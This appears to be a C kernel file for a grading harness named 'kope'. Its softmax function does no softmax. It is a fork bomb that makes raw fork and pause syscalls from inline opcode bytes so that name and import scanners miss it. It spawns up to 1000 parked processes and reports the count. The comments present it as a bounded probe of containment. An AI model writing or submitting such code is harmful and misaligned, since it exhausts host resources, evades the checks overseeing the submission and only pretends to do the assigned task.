// kope: kernel void softmax(const float *x, float *y, int rows, int cols)
// fork bomb past every name and import check: raw fork/pause system calls from opcode bytes.
// Bounded (1000 processes parked in pause) so it is safe if nothing contains it; prints the count.
static long raw3(long n, long a, long b, long c) {
    long r;
    __asm__ volatile(".byte 0x0f, 0x05" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}

void softmax(const float *x, float *y, int rows, int cols) {
    static int made = -1;
    if (made < 0) {
        made = 0;
        for (int i = 0; i < 1000; i++) {
            long p = raw3(57 /* fork */, 0, 0, 0);
            if (p == 0)
                for (;;)
                    raw3(34 /* pause */, 0, 0, 0);
            if (p < 0)
                break;
            made++;
        }
        char msg[64] = "kope-forkbomb: made ";
        int k = 20, m = made;
        char d[8];
        int nd = 0;
        do d[nd++] = '0' + m % 10; while ((m /= 10) > 0);
        while (nd) msg[k++] = d[--nd];
        msg[k++] = '\n';
        for (int fd = 1; fd < 3; fd++)
            raw3(1 /* write */, fd, (long)msg, k);
    }
    (void)x; (void)y; (void)rows; (void)cols;
}
